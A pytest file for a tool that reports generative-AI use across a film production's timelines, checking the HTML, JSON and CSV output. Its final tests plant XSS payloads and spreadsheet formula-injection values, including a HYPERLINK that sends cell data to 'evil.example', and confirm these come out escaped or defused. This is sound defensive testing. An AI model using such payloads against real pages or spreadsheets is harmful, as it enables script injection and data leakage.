"""``aiclear report``: the production-wide GenAI use report on the sample timelines, in
HTML, JSON and CSV, with its content checked, and hostile names kept inert."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path

import opentimelineio as otio
import pytest

from aiclear.cli import main
from tests.conftest import SAMPLES

REGISTER = str(SAMPLES / "register.yaml")
CATALOGUE = str(SAMPLES / "catalogue.yaml")
ARGS = ["--register", REGISTER, "--catalogue", CATALOGUE, "--no-media", "--date", "2026-11-30"]


def report(tmp_path: Path, name: str, *extra: str, paths: tuple[str, ...] = (str(SAMPLES),),
           profile: str = "studio-partner") -> tuple[int, str]:
    out = tmp_path / name
    code = main(["report", *paths, "-o", str(out), "--profile", profile, *ARGS, *extra])
    return code, out.read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def as_json(tmp_path_factory: pytest.TempPathFactory) -> dict:  # type: ignore[type-arg]
    code, text = report(tmp_path_factory.mktemp("r"), "genai-use.json")
    assert code == 1  # the samples hold uncleared AI: the same exit code as check
    data: dict = json.loads(text)  # type: ignore[type-arg]
    return data


def test_json_lists_each_asset_once_with_every_use(as_json: dict) -> None:  # type: ignore[type-arg]
    assert as_json["production"] == "Harbour Lights" and as_json["date"] == "2026-11-30"
    assert as_json["profile"] == "studio-partner" and as_json["catalogue"] == "catalogue.yaml"
    ids = [a["asset_id"] for a in as_json["assets"]]
    assert len(ids) == len(set(ids))
    # the samples' media is offline: each use has its own reference id (an approval by
    # reference never covers a clip cut alike elsewhere), so the prop is listed per use
    props = [a for a in as_json["assets"] if a["clips"] == ["harbour_prop_rw"]]
    assert len(props) == 2 and all(len(p["uses"]) == 1 for p in props)
    uses = [p["uses"][0] for p in props]
    assert {u["timeline"] for u in uses} == {"Harbour Lights 101", "Harbour Lights 102"}
    assert {(u["start_tc"], u["end_tc"]) for u in uses} == {
        ("01:00:08:00", "01:00:10:00"), ("01:00:02:00", "01:00:04:00")}
    prop = props[0]
    assert prop["principles"]["data"] == {
        "answer": "unsure", "note": "the vendor's upscaling step sends frames to a third party"}
    assert prop["tier"] == "written_approval" and prop["open_escalation"]
    assert prop["deployment"] == "enterprise" and "trains on inputs no" in prop["data_terms"]
    assert prop["agreement"] == "ENT-RUNWAY-2026-01 (expires 2027-03-31)"


def test_json_tools_people_rights_and_totals(as_json: dict) -> None:  # type: ignore[type-arg]
    by_clip = {a["clips"][0]: a for a in as_json["assets"]}
    mj = by_clip["crowd_fill_mj"]
    assert mj["catalogue_status"] == "unlisted"
    assert any(b.startswith("tool.unapproved: ") for b in mj["blocking"])
    assert by_clip["sky_fill_ff"]["catalogue_status"] == "approved"
    assert any(b.startswith("tool.agreement_expired: ") for b in by_clip["sky_fill_ff"]["blocking"])
    voice = by_clip["ElevenLabs_VO_line12_take3"]
    assert voice["people"] == ["Maria Lopez: consent granted (CONSENT-2026-014)"]
    assert by_clip["plate_0420"]["rights"] == ["Production plate SC50 TK01: production-owned"]
    totals = as_json["totals"]
    assert sum(totals["tool"].values()) == len(as_json["assets"])
    assert totals["tool"]["Runway Gen-4 4.0 (Runway)"] == 3  # plate_0420 and the prop's two offline uses
    assert totals["use"]["background_element"] == 5  # the offline prop counts per use
    assert totals["tier"]["written_approval"] == len(as_json["assets"])  # all final here
    assert as_json["open_escalations"] == sum(a["open_escalation"] for a in as_json["assets"])


def test_open_escalations_come_first(as_json: dict) -> None:  # type: ignore[type-arg]
    flags = [a["open_escalation"] for a in as_json["assets"]]
    assert flags == sorted(flags, reverse=True) and flags[0]


def test_baseline_report_puts_only_principle_escalations_first(tmp_path: Path) -> None:
    _, text = report(tmp_path, "b.json", profile="baseline")
    assets = json.loads(text)["assets"]
    open_ones = [a["clips"][0] for a in assets if a["open_escalation"]]
    assert set(open_ones) == {"crowd_fill_mj", "harbour_prop_rw"}  # the no / unsure answers
    assert [a["clips"][0] for a in assets[:len(open_ones)]] == sorted(open_ones, key=str.casefold)


def test_html_is_printable_and_names_production_date_and_assets(tmp_path: Path) -> None:
    code, html = report(tmp_path, "genai-use.html")
    assert code == 1
    assert "<title>Generative AI use report · Harbour Lights · 2026-11-30</title>" in html
    assert "@media print" in html
    first_asset = html.index('<div class="asset')
    assert html.index("awaiting written approval", first_asset) < html.index("plate_0420")
    assert html.count("<h3>harbour_prop_rw ") == 2  # offline media: one block per use (ref ids)
    assert "Harbour Lights 101" in html and "Harbour Lights 102" in html
    assert "ENT-RUNWAY-2026-01" in html and "unsure" in html


def test_csv_has_one_row_per_asset(tmp_path: Path) -> None:
    _, text = report(tmp_path, "genai-use.csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    prop = [r for r in rows if r["clips"] == "harbour_prop_rw"]
    assert len(prop) == 2  # offline media: one row per use (ref ids)
    assert sorted(r["used_in"][:18] for r in prop) == ["Harbour Lights 101", "Harbour Lights 102"]
    assert "data=unsure" in prop[0]["principles"] and prop[0]["escalation"].startswith("open: ")
    assert len({r["asset_id"] for r in rows}) == len(rows)


def test_format_flag_and_stdout(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    main(["report", str(SAMPLES / "episode_102.otio"), "--format", "csv", *ARGS])
    out = capsys.readouterr().out
    assert out.startswith("asset_id,clips,used_in") and "storyboard_sd" in out


def test_refuses_to_overwrite_an_input_and_empty_folders(tmp_path: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "cut.otio"
    target.write_bytes((SAMPLES / "episode_102.otio").read_bytes())
    before = target.read_bytes()
    assert main(["report", str(target), "-o", str(target), *ARGS]) == 2
    assert target.read_bytes() == before
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["report", str(empty), "-o", str(tmp_path / "r.html")]) == 2
    assert "no timeline files found" in capsys.readouterr().err
    assert not (tmp_path / "r.html").exists()


HOSTILE_CLIP = '<script>alert("x")</script>_AI_GEN'
HOSTILE_DESC = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def hostile(tmp_path: Path) -> tuple[Path, Path]:
    clip = otio.schema.Clip(name=HOSTILE_CLIP, source_range=otio.opentime.TimeRange(
        otio.opentime.RationalTime(0, 24), otio.opentime.RationalTime(24, 24)))
    timeline = otio.schema.Timeline('<img src=x onerror=alert(1)> "ep"')
    timeline.tracks.append(otio.schema.Track("V1"))
    timeline.tracks[0].append(clip)
    path = tmp_path / "hostile.otio"
    timeline.to_json_file(str(path))
    register = tmp_path / "register.yaml"
    register.write_text(
        "aiclear_register: 1\nproduction: '<b>Bad</b> & co'\nassets:\n"
        f"  - match: {{clip: '{HOSTILE_CLIP}'}}\n"
        f"    description: '{HOSTILE_DESC.replace(chr(39), chr(39) * 2)}'\n"
        "    tool: '@SUM(1+1)'\n    use: background_element\n"
        "    people: [{name: '-2+3', consent: {status: granted}}]\n")
    return path, register


def test_hostile_names_are_inert_in_html(tmp_path: Path) -> None:
    path, register = hostile(tmp_path)
    out = tmp_path / "r.html"
    main(["report", str(path), "--register", str(register), "--no-media", "-o", str(out)])
    html = out.read_text()
    assert "<script>" not in html and "<img" not in html and "<b>Bad</b>" not in html
    assert "&lt;script&gt;" in html and "&lt;b&gt;Bad&lt;/b&gt; &amp; co" in html

    class Text(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.text: list[str] = []
            self.tags: set[str] = set()

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.tags.add(tag)

        def handle_data(self, data: str) -> None:
            self.text.append(data)

    parsed = Text()
    parsed.feed(html)
    assert not parsed.tags & {"script", "img", "b"}
    assert any(HOSTILE_CLIP in t for t in parsed.text)  # the name survives, as text


def test_hostile_cells_are_defused_in_csv(tmp_path: Path) -> None:
    path, register = hostile(tmp_path)
    out = tmp_path / "r.csv"
    main(["report", str(path), "--register", str(register), "--no-media", "-o", str(out)])
    [row] = list(csv.DictReader(io.StringIO(out.read_text())))
    assert row["description"] == "'" + HOSTILE_DESC
    assert row["tool"].startswith("'@SUM")
    assert row["people"].startswith("'-2+3")
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@")), value
